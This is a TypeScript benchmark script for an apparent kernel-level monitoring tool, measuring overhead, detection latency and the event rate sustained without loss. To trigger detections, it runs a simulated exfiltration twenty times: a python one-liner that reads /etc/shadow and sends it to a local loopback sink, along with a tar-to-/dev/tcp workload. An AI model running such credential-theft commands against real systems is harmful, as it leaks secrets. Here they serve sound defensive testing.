import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { LiveHarness, ofKind, tcpSink } from '../src/testing/live-harness.js';

/**
 * `npm run bench:live` (root, real kernel): overhead of watching on two
 * workloads, and the highest event rate the probes sustain without loss.
 * Each workload times itself (ns, inside the watched cgroup); medians of 3.
 */
const REPS = Number(process.env.BENCH_REPS ?? 3);
const median = (xs: number[]): number => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)]!;
const timed = (cmd: string): string => `s=$(date +%s%N); ${cmd}; e=$(date +%s%N); echo $((e-s))`;

async function main(): Promise<void> {
  const sink = await tcpSink();
  const root = process.cwd();
  const workloads: Record<string, string> = {
    'dd bs=1 count=1000000 (syscall-heavy)': 'dd if=/dev/zero of=/dev/null bs=1 count=1000000 status=none',
    'tar node_modules | loopback TCP sink (realistic)': `tar -cf - -C ${root} node_modules > /dev/tcp/127.0.0.2/${sink.port}`,
  };
  const plain: Record<string, number[]> = {};
  for (const [name, cmd] of Object.entries(workloads)) {
    plain[name] = [];
    // async: the TCP sink lives in this process and must keep reading
    for (let i = 0; i < REPS; i++) plain[name].push(Number((await promisify(execFile)('/bin/bash', ['-c', timed(cmd)], { encoding: 'utf8' })).stdout.trim()));
  }
  const h = new LiveHarness('bench');
  await h.start();
  const watched: Record<string, number[]> = {};
  let n = 0;
  for (const [name, cmd] of Object.entries(workloads)) {
    watched[name] = [];
    for (let i = 0; i < REPS; i++) watched[name].push(Number((await h.run(`w${n++}`, timed(cmd))).stdout.trim()));
  }
  console.log('slowdown caused by watching (median of %d, ms):', REPS);
  for (const name of Object.keys(workloads)) {
    const a = median(plain[name]!) / 1e6;
    const b = median(watched[name]!) / 1e6;
    console.log(`  ${name}: unwatched ${a.toFixed(0)} ms, watched ${b.toFixed(0)} ms, +${(((b - a) / a) * 100).toFixed(1)}%`);
  }
  // detection latency: the transmit syscall's kernel timestamp → the finding leaving the pipeline
  const before = h.findings.length;
  for (let i = 0; i < 20; i++) {
    await h.run(`exfil${i}`, `python3 -c 'import socket; d=open("/etc/shadow","rb").read(); s=socket.create_connection(("127.0.0.2",${sink.port})); s.sendall(d); s.close()'`);
  }
  const exfil = h.findings.length - before;
  // zero-loss rate: open+close pairs (two records each, never coalesced) at a fixed rate for 3 s
  console.log('records/s sustained (open+close pairs for 3 s), loss per step:');
  let best = 0;
  for (const rate of [2000, 5000, 10000, 20000, 40000, 80000]) {
    const before = ofKind(h.events, 'loss').reduce((s, l) => s + l.events, 0);
    const r = await h.run(
      `rate${rate}`,
      `python3 -c '
import os, time
rate, dur = ${rate / 2}, 3.0
t0 = time.monotonic(); done = 0
while True:
    el = time.monotonic() - t0
    if el >= dur: break
    due = int(el * rate)
    while done < due:
        os.close(os.open("/dev/null", os.O_RDONLY)); done += 1
    time.sleep(0.001)
print(done)
'`,
    );
    const lost = ofKind(h.events, 'loss').reduce((s, l) => s + l.events, 0) - before;
    const pairs = Number(r.stdout.trim());
    const seen = ofKind(r.events, 'file.open').filter((e) => e.path === '/dev/null').length;
    const achieved = (pairs * 2) / 3;
    console.log(`  target ${rate}/s: achieved ${achieved.toFixed(0)}/s, opens seen ${seen}/${pairs}, lost ${lost}`);
    if (lost === 0 && seen >= pairs) best = Math.max(best, achieved);
    else break;
  }
  console.log(`highest rate with zero loss: ${best.toFixed(0)} records/s`);
  const summary = await h.close();
  h.cleanup();
  await sink.close();
  const lat = [...summary.detectionLatencyMs].sort((a, b) => a - b);
  const q = (p: number): number => lat[Math.min(lat.length - 1, Math.floor(p * lat.length))]!;
  console.log(`detection latency over ${lat.length} findings (${exfil} from 20 exfiltrations): p50 ${q(0.5).toFixed(1)} ms, p99 ${q(0.99).toFixed(1)} ms, max ${lat.at(-1)!.toFixed(1)} ms`);
  console.log(`session: ${summary.events} events, ${summary.lostEvents} lost in total, attach ${summary.attachMs} ms`);
}

await main();
